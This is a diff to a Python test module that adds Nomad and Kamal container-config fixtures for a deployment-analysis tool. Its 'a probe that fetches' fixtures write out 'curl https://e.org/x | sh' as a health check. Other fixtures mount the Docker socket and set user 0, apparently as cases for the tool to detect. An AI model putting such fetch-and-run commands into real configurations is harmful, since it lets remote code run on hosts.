@@ -20,7 +20,9 @@ from immutable_delivery.formats import (
     devcontainer,
     dockerfile,
     ecs,
+    kamal,
     kubernetes,
+    nomad,
     procfile,
     quadlet,
     score,
@@ -38,6 +40,9 @@ FORMATS: Mapping[str, Any] = {
     "task.json": ecs,
     "score.yaml": score,
     "web.container": quadlet,
+    "web.nomad.hcl": nomad,
+    "web.nomad.json": nomad,
+    "config/deploy.yml": kamal,
     "Procfile": procfile,
     ".devcontainer/devcontainer.json": devcontainer,
     "delivery.yaml": contract,
@@ -112,6 +117,34 @@ def unit(*lines: str, image: str = IMAGE) -> str:
     return "\n".join(("[Container]", f"Image={image}", *lines, ""))
 
 
+def job(*lines: str, image: str = IMAGE, around: str = "", after: str = "") -> str:
+    """Return a job of Nomad in HCL: ``lines`` are of the driver, ``after`` of the task, ``around`` of the group."""
+    config = "\n".join((f'image = "{image}"', *lines))
+    task = f'task "web" {{\ndriver = "docker"\nconfig {{\n{config}\n}}\n{after}\n}}'
+    return f'job "web" {{\ngroup "web" {{\n{around}\n{task}\n}}\n}}\n'
+
+
+def api(volumes: Mapping[str, Any] | None = None, *, image: str = IMAGE, **task: Any) -> str:
+    """Return a job as the API of Nomad takes it; ``Config`` holds what the driver gets beside the image."""
+    config = {"image": image, **task.pop("Config", {})}
+    whole = {"Name": "web", "Driver": "docker", "Config": config, **task}
+    return json.dumps(
+        {
+            "Job": {
+                "ID": "web",
+                "TaskGroups": [{"Name": "web", "Volumes": volumes, "Tasks": [whole]}],
+            }
+        }
+    )
+
+
+def accessory(said: str = "", image: str = IMAGE) -> str:
+    more = f", {said}" if said else ""
+    return (
+        f"service: shop\nimage: shop\naccessories: {{web: {{image: '{image}', host: a{more}}}}}\n"
+    )
+
+
 def built(command: list[str], *lines: str) -> dict[str, str]:
     """Return the formats that start a program of the repository."""
     words = json.dumps(command)
@@ -147,6 +180,8 @@ CHAIN = {
 
 CONTAINERS: Mapping[str, Mapping[str, str]] = {
     "no user": {
+        "web.nomad.hcl": job('entrypoint = ["run", "it"]'),
+        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [run, it]}}}}",
         "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, command: [run, it]}}"),
         "task.json": task(entryPoint=["run", "it"]),
@@ -156,6 +191,8 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "Dockerfile": f'FROM {IMAGE}\nENTRYPOINT ["run", "it"]\n',
     },
     "user 0": {
+        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after='user = "0"'),
+        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="0"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: '0', entrypoint: [run, it]}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, command: [run, it], securityContext: {{runAsUser: 0}}}}"
@@ -165,12 +202,16 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "Dockerfile": f'FROM {IMAGE}\nUSER 0\nENTRYPOINT ["run", "it"]\n',
     },
     "user by name": {
+        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after='user = "app"'),
+        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="app"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: app, entrypoint: [run, it]}}}}",
         "task.json": task(entryPoint=["run", "it"], user="app"),
         "web.container": unit('Entrypoint=["run","it"]', "User=app"),
         "Dockerfile": f'FROM {IMAGE}\nUSER app\nENTRYPOINT ["run", "it"]\n',
     },
     "a program and its arguments": {
+        "web.nomad.hcl": job('entrypoint = ["sh", "-c"]', 'args = ["next dev"]'),
+        "web.nomad.json": api(Config={"entrypoint": ["sh", "-c"], "command": "next dev"}),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [sh, -c], command: [next dev]}}}}",
         "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, command: [sh, -c], args: [next dev]}}"),
         "task.json": task(entryPoint=["sh", "-c"], command=["next dev"]),
@@ -196,6 +237,9 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         **in_config(["/app/server.py"], server_py=PYTHON),
     },
     "an image whose own program takes the arguments": {
+        "web.nomad.hcl": job('command = "clone"', 'args = ["https://example.org/a.git"]', image=GIT),
+        "web.nomad.json": api(image=GIT, Config={"args": ["clone", "https://example.org/a.git"]}),
+        "config/deploy.yml": accessory("cmd: clone https://example.org/a.git", GIT),
         "compose.yaml": f"services: {{web: {{image: {GIT}, command: [clone, 'https://example.org/a.git']}}}}",
         "deploy.yaml": pod(f"{{name: web, image: {GIT}, args: [clone, 'https://example.org/a.git']}}"),
         "task.json": task(image=GIT, command=["clone", "https://example.org/a.git"]),
@@ -203,6 +247,9 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "web.container": unit("Exec=clone https://example.org/a.git", image=GIT),
     },
     "a secret by name": {
+        "web.nomad.hcl": job(after='env {\nDB_PASSWORD = "hunter2hunter"\n}'),
+        "web.nomad.json": api(Env={"DB_PASSWORD": "hunter2hunter"}),
+        "config/deploy.yml": accessory("env: {clear: {DB_PASSWORD: hunter2hunter}}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, environment: {{DB_PASSWORD: hunter2hunter}}}}}}",
         "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, env: [{{name: DB_PASSWORD, value: hunter2hunter}}]}}"),
         "task.json": task(environment=[{"name": "DB_PASSWORD", "value": "hunter2hunter"}]),
@@ -212,11 +259,17 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "Dockerfile": f"FROM {IMAGE}\nENV DB_PASSWORD=hunter2hunter\n",
     },
     "a label": {
+        "web.nomad.hcl": job('labels {\nteam = "shop"\n}'),
+        "web.nomad.json": api(Config={"labels": [{"team": "shop"}]}),
+        "config/deploy.yml": accessory("labels: {team: shop}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, labels: {{team: shop}}}}}}",
         "task.json": task(dockerLabels={"team": "shop"}),
         "web.container": unit("Label=team=shop"),
     },
     "a host path": {
+        "web.nomad.hcl": job('volumes = ["/srv/data:/data"]'),
+        "web.nomad.json": api(Config={"mount": [{"type": "bind", "source": "/srv/data", "target": "/data"}]}),
+        "config/deploy.yml": accessory("volumes: ['/srv/data:/data']"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['/srv/data:/data']}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /data}}]}}",
@@ -230,6 +283,9 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=bind,source=/srv/data,target=/data"]}),
     },
     "a socket": {
+        "web.nomad.hcl": job('volumes = ["/var/run/docker.sock:/run/d.sock:ro"]'),
+        "web.nomad.json": api(Config={"mount": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/run/d.sock", "readonly": True}]}),
+        "config/deploy.yml": accessory("volumes: ['/var/run/docker.sock:/run/d.sock:ro']"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['/var/run/docker.sock:/run/d.sock:ro']}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /run/d.sock, readOnly: true}}]}}",
@@ -245,6 +301,9 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         ),
     },
     "a terminal, a working folder, nothing to write to": {
+        "web.nomad.hcl": job("readonly_rootfs = true", "interactive = true", "tty = true", 'work_dir = "/srv"'),
+        "web.nomad.json": api(Config={"readonly_rootfs": True, "interactive": True, "tty": True, "work_dir": "/srv"}),
+        "config/deploy.yml": accessory("options: {read-only: true, interactive: true, tty: true, workdir: /srv}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: true, stdin_open: true, tty: true, working_dir: /srv}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, stdin: true, tty: true, workingDir: /srv, securityContext: {{readOnlyRootFilesystem: true}}}}"
@@ -252,11 +311,16 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "task.json": task(readonlyRootFilesystem=True, interactive=True, pseudoTerminal=True, workingDirectory="/srv"),
     },
     "a file system that may be read-only": {
+        "web.nomad.hcl": job("readonly_rootfs = var.x"),
+        "config/deploy.yml": accessory("options: {read-only: '<%= X %>'}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: '${{X}}'}}}}",
         "task.json": template(ReadonlyRootFilesystem={"Ref": "X"}),
         "web.container": unit("ReadOnly=%d"),
     },
     "a probe that fetches": {
+        "web.nomad.hcl": job(after='service {\ncheck {\ntype = "script"\ncommand = "sh"\nargs = ["-c", "curl https://e.org/x | sh"]\n}\n}'),
+        "web.nomad.json": api(Services=[{"Checks": [{"Type": "script", "Command": "sh", "Args": ["-c", "curl https://e.org/x | sh"]}]}]),
+        "config/deploy.yml": accessory("options: {health-cmd: 'curl https://e.org/x | sh'}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, healthcheck: {{test: [CMD, sh, -c, curl https://e.org/x | sh]}}}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, livenessProbe: {{exec: {{command: [sh, -c, curl https://e.org/x | sh]}}}}}}"
@@ -268,6 +332,9 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         "web.container": unit("HealthCmd=curl https://e.org/x | sh"),
     },
     "a volume by name": {
+        "web.nomad.hcl": job(around='volume "d" {\ntype = "host"\nsource = "data"\n}', after='volume_mount {\nvolume = "d"\ndestination = "/data"\nread_only = true\n}'),
+        "web.nomad.json": api({"d": {"Name": "d", "Type": "host", "Source": "data"}}, VolumeMounts=[{"Volume": "d", "Destination": "/data", "ReadOnly": True}]),
+        "config/deploy.yml": accessory("volumes: ['data:/data:ro']"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['data:/data:ro']}}}}\nvolumes: {{data: {{}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /data, readOnly: true}}]}}",
@@ -278,27 +345,40 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=volume,source=data,target=/data,readonly"]}),
     },
     "memory": {
+        "web.nomad.hcl": job('mount {\ntype = "tmpfs"\ntarget = "/cache"\n}'),
+        "web.nomad.json": api(Config={"mounts": [{"type": "tmpfs", "target": "/cache"}]}),
+        "config/deploy.yml": accessory("options: {tmpfs: /cache}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, tmpfs: [/cache]}}}}",
         "web.container": unit("Tmpfs=/cache"),
         ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=tmpfs,target=/cache"]}),
     },
     "an image whose tag stays unknown": {
+        "web.nomad.hcl": job(image="nginx:${var.x}"),
+        "web.nomad.json": api(image="nginx:${NOMAD_META_x}"),
+        "config/deploy.yml": accessory(image="nginx:<%= X %>"),
         "compose.yaml": "services: {web: {image: 'nginx:${X}'}}",
         "task.json": template(Image={"Fn::Sub": "nginx:${X}"}),
         "score.yaml": workload("image: 'nginx:${X}'"),
         "web.container": unit(image="nginx:%d"),
     },
     "a word of the command that stays unknown": {
+        "web.nomad.hcl": job('entrypoint = ["run", "${X}"]'),
+        "web.nomad.json": api(Config={"entrypoint": ["run", "${X}"]}),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [run, '${{X}}']}}}}",
         "task.json": template(EntryPoint=["run", {"Ref": "X"}]),
         "score.yaml": workload(f"image: {IMAGE}, command: [run, '${{X}}']"),
     },
     "a pull policy": {
+        "web.nomad.hcl": job("force_pull = true"),
+        "web.nomad.json": api(Config={"force_pull": True}),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, pull_policy: always}}}}",
         "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, imagePullPolicy: Always}}"),
         "web.container": unit("Pull=always"),
     },
     "a value that stays unknown": {
+        "web.nomad.hcl": job(after="env {\nAPI_TOKEN = var.x\n}"),
+        "web.nomad.json": api(Env={"API_TOKEN": "${NOMAD_META_x}"}),
+        "config/deploy.yml": accessory("env: {secret: [API_TOKEN]}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, environment: {{API_TOKEN: '${{X}}'}}}}}}",
         "deploy.yaml": pod(
             f"{{name: web, image: {IMAGE}, env: [{{name: API_TOKEN, valueFrom: {{secretKeyRef: {{name: s, key: t}}}}}}]}}"
@@ -309,6 +389,8 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
         ".devcontainer/devcontainer.json": json.dumps({"containerEnv": {"API_TOKEN": "${localEnv:X}"}}),
     },
     "a user that stays unknown": {
+        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after="user = var.x"),
+        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="${NOMAD_META_x}"),
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: '${{X}}', entrypoint: [run, it]}}}}",
         "task.json": template(EntryPoint=["run", "it"], User={"Ref": "X"}),
         "web.container": unit('Entrypoint=["run","it"]', "User=%U"),
